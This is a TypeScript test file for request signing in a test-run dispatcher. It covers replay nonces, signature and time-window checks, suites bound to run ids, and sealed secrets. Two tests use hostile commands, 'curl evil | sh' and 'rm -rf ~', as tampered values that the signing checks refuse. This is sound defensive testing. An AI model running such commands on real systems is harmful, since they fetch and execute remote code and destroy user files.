import { test } from 'node:test';
import assert from 'node:assert/strict';
import { RunRequest, suiteOf, type AcceptedRun } from '../../shared/messages.js';
import { NonceCache, SIGNATURE_WINDOW_MS, canonical, openSecrets, requestProblem, sealSecrets, signRequest, suiteProblem } from '../../shared/signing.js';

const key = Buffer.from('k'.repeat(40));
const other = Buffer.from('o'.repeat(40));
const request = () => RunRequest.parse({ type: 'run.request', runId: 'r1', adapter: 'command', cwd: '/suite', command: { discover: 'seq 3', run: 'true {ids}' }, env: { A: '1' } });
/** What the dispatcher sees: the published JSON, parsed again. */
const received = (r: RunRequest) => RunRequest.parse(JSON.parse(JSON.stringify(r)));

test('canonical JSON sorts keys at every level and leaves undefined out', () => {
  assert.equal(canonical({ b: 1, a: { d: [1, { f: 2, e: undefined }], c: null } }), '{"a":{"c":null,"d":[1,{"f":2}]},"b":1}');
});

test('a signed request is accepted once, after its JSON round trip; its suite checks on the slots, as the dispatcher passes it on', () => {
  const signed = received(signRequest(request(), key));
  const nonces = new NonceCache();
  assert.equal(requestProblem(signed, key, nonces), null);
  assert.match(requestProblem(signed, key, nonces) ?? '', /seen before \(its nonce\): a replay/);
  const accepted: AcceptedRun = { ...signed, runId: 'r1', id: 'r1', acceptedAt: 1, deadline: 2, shard: 3 };
  assert.equal(suiteProblem('r1', suiteOf(accepted), key), null);
  assert.equal(suiteProblem('r1', JSON.parse(JSON.stringify(suiteOf(accepted))), key), null);
});

test('unsigned, altered, another key, stale: each refused with its reason', () => {
  const nonces = new NonceCache();
  assert.match(requestProblem(request(), key, nonces) ?? '', /^not signed/);
  const signed = signRequest(request(), key);
  assert.match(requestProblem({ ...signed, pattern: 'x' }, key, nonces) ?? '', /signature does not match/);
  assert.match(requestProblem({ ...signed, command: { discover: 'seq 3', run: 'curl evil | sh' } }, key, nonces) ?? '', /signature does not match/);
  assert.match(requestProblem(signRequest(request(), other), key, nonces) ?? '', /signature does not match/);
  const old = signRequest(request(), key, Date.now() - SIGNATURE_WINDOW_MS - 1000);
  assert.match(requestProblem(old, key, nonces) ?? '', /outside the 300 s window/);
});

test('a slot refuses a suite other than the one signed for the run id', () => {
  const signed = signRequest(request(), key);
  const suite = suiteOf(signed);
  assert.match(suiteProblem('r1', { ...suite, command: { discover: 'seq 3', run: 'rm -rf ~' } }, key) ?? '', /is not the one signed for run r1/);
  assert.match(suiteProblem('r1', { ...suite, env: { A: '2' } }, key) ?? '', /is not the one signed/);
  assert.match(suiteProblem('r2', suite, key) ?? '', /is not the one signed for run r2/, 'bound to its run id');
  assert.match(suiteProblem('r1', { ...suite, auth: undefined }, key) ?? '', /is not signed/);
});

test('sealed secrets open with the key only, each bound to its name', () => {
  const sealed = sealSecrets({ TOKEN: 'hunter2', OTHER: 'x' }, key);
  assert.ok(!JSON.stringify(sealed).includes('hunter2'));
  assert.deepEqual(openSecrets(sealed, key), { TOKEN: 'hunter2', OTHER: 'x' });
  assert.throws(() => openSecrets(sealed, other), /secret env (TOKEN|OTHER): cannot be opened with this supervisor's key/);
  assert.throws(() => openSecrets({ TOKEN: sealed.OTHER! }, key), /secret env TOKEN: cannot be opened/, 'a value moved to another name');
  assert.throws(() => openSecrets(sealed, undefined), /has no key to open it/);
  assert.deepEqual(openSecrets({}, undefined), {});
});
